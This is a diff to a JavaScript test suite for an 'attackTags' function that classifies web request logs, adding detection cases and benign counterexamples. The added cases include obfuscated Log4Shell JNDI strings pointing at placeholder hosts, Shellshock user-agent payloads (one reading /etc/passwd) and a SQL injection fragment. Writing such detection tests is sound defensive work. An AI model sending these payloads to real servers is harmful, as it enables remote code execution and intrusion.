@@ -23,6 +23,12 @@ describe('attackTags', () => {
     [{ userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, ['scanner_user_agent']],
     [{ userAgent: '${jndi:ldap://x.example/a}' }, ['log4shell']],
     [{ referer: '${${lower:j}ndi:ldap://x/}' }, ['log4shell']],
+    [{ referer: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.invalid/a}' }, ['log4shell']],
+    [{ userAgent: '() { :; }; /bin/cat /etc/passwd' }, ['command_injection', 'shellshock']],
+    [{ userAgent: '() { _; } >_[$($())] { echo; id; }' }, ['shellshock']],
+    [{ query: 'p=%20AND%201%3D0' }, ['sql_injection']],
+    [{ path: 'http://www.example.cn/' }, ['proxy_probe']],
+    [{ path: 'mail.example.com:25' }, ['proxy_probe']],
     [{ path: '/index.php', query: 'acunetix_wvs_security_test=1' }, ['scanner_marker']],
   ])('tags %o as %o', (fields, tags) => {
     expect(attackTags(record(fields))).toEqual(tags);
@@ -34,6 +40,10 @@ describe('attackTags', () => {
     { path: '/blog/2015/05/union-station-select-menu' },
     { path: '/api/items', query: 'sort=name&order=asc&ls=1&cat=2' },
     { path: '/docs/..hidden' },
+    { path: '/js/app.js', referer: 'https://example.com/?cb=function() {return 1}' },
+    { path: '/band/and-1-more' },
+    { path: '/redirect', query: 'to=http://example.com/' },
+    { path: '/time/10:30' },
     { path: '/download/report.pdf', userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
   ])('leaves benign %o untagged', (fields) => {
     expect(attackTags(record(fields))).toEqual([]);
@@ -88,6 +98,6 @@ describe('attackTags', () => {
       for (const tag of classes) all.add(tag);
       expect(share).toBeGreaterThan(0.05);
     }
-    expect([...all].sort()).toEqual(['command_injection', 'path_traversal', 'scanner_marker', 'scanner_user_agent', 'sensitive_file_probe', 'sql_injection', 'xss']);
+    expect([...all].sort()).toEqual(['command_injection', 'path_traversal', 'proxy_probe', 'scanner_marker', 'scanner_user_agent', 'sensitive_file_probe', 'sql_injection', 'xss']);
   });
 });
